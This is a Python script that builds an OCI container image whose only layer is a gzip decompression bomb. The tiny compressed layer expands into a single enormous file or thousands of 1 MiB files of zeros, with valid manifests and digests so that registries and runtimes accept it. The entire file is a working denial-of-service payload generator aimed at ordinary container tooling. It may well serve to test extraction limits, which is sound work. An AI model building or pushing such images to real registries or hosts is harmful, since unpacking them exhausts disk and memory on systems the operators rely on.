#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Write an OCI image layout whose one layer is a decompression bomb: a small gzip blob that
becomes far more on disk.

mkbomb.py OUT --one SIZE_MIB      one file of SIZE_MIB MiB of zeros (its size in the header)
mkbomb.py OUT --many COUNT        COUNT files of 1 MiB of zeros each

The tar is made and compressed as a stream (nothing of its full size is ever written here);
the layout is what a registry or `docker save` would carry: index.json, a manifest for
linux/amd64, a config whose diff_ids are the uncompressed tar's digest.
"""
import argparse
import hashlib
import json
import os
import tarfile
import zlib

CHUNK = 1 << 20
ZERO = bytes(CHUNK)


class Out:
    """gzip into a file (raw deflate between a header and a trailer of our own), both
    digests kept. A run of zeros is compressed once: after a full flush deflate starts
    afresh, so every further MiB of zeros is the same compressed bytes."""

    def __init__(self, path):
        self.f = open(path, "wb")
        self.z = zlib.compressobj(9, zlib.DEFLATED, -15)
        self.raw = hashlib.sha256()
        self.gz = hashlib.sha256()
        self.crc = 0
        self.size = 0
        self.put(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        self.zero_chunk = None

    def put(self, c):
        self.gz.update(c)
        self.f.write(c)

    def fed(self, b):
        self.raw.update(b)
        self.crc = zlib.crc32(b, self.crc)
        self.size += len(b)

    def write(self, b):
        self.fed(b)
        self.put(self.z.compress(b))

    def zeros(self, n):
        if n >= CHUNK:
            self.put(self.z.flush(zlib.Z_FULL_FLUSH))
        while n >= CHUNK:
            if self.zero_chunk is None:
                self.zero_chunk = self.z.compress(ZERO) + self.z.flush(zlib.Z_FULL_FLUSH)
            # the compressor is fresh after each full flush: the same bytes every time
            self.put(self.zero_chunk)
            self.fed(ZERO)
            n -= CHUNK
        if n:
            self.write(ZERO[:n])

    def close(self):
        self.put(self.z.flush())
        self.put(self.crc.to_bytes(4, "little") + (self.size & 0xFFFFFFFF).to_bytes(4, "little"))
        self.f.close()


def header(name, size):
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.mode = 0o644
    ti.mtime = 1700000000
    return ti.tobuf(tarfile.PAX_FORMAT)


def member(out, name, size):
    out.write(header(name, size))
    out.zeros(size)
    if size % 512:
        out.write(bytes(512 - size % 512))


def blob(root, data):
    d = hashlib.sha256(data).hexdigest()
    with open(os.path.join(root, "blobs", "sha256", d), "wb") as f:
        f.write(data)
    return "sha256:" + d, len(data)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--one", type=int, metavar="SIZE_MIB")
    g.add_argument("--many", type=int, metavar="COUNT")
    a = ap.parse_args()
    os.makedirs(os.path.join(a.out, "blobs", "sha256"), exist_ok=True)
    tmp = os.path.join(a.out, "layer.tmp")
    out = Out(tmp)
    if a.one:
        member(out, "zeros", a.one << 20)
    else:
        for i in range(a.many):
            member(out, "z/%05d" % i, CHUNK)
    out.write(bytes(1024))  # the tar's end
    out.close()
    ld = "sha256:" + out.gz.hexdigest()
    lsize = os.path.getsize(tmp)
    os.rename(tmp, os.path.join(a.out, "blobs", "sha256", ld[7:]))
    config = {
        "architecture": "amd64",
        "os": "linux",
        "config": {"Cmd": ["/zeros"]},
        "rootfs": {"type": "layers", "diff_ids": ["sha256:" + out.raw.hexdigest()]},
    }
    cd, cs = blob(a.out, json.dumps(config).encode())
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cd, "size": cs},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": ld, "size": lsize}],
    }
    md, ms = blob(a.out, json.dumps(manifest).encode())
    index = {
        "schemaVersion": 2,
        "manifests": [{
            "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": md, "size": ms,
            "platform": {"architecture": "amd64", "os": "linux"},
            "annotations": {"org.opencontainers.image.ref.name": "latest"},
        }],
    }
    with open(os.path.join(a.out, "index.json"), "w") as f:
        json.dump(index, f)
    with open(os.path.join(a.out, "oci-layout"), "w") as f:
        json.dump({"imageLayoutVersion": "1.0.0"}, f)
    print(json.dumps({"layer": ld, "compressed": lsize}))


if __name__ == "__main__":
    main()
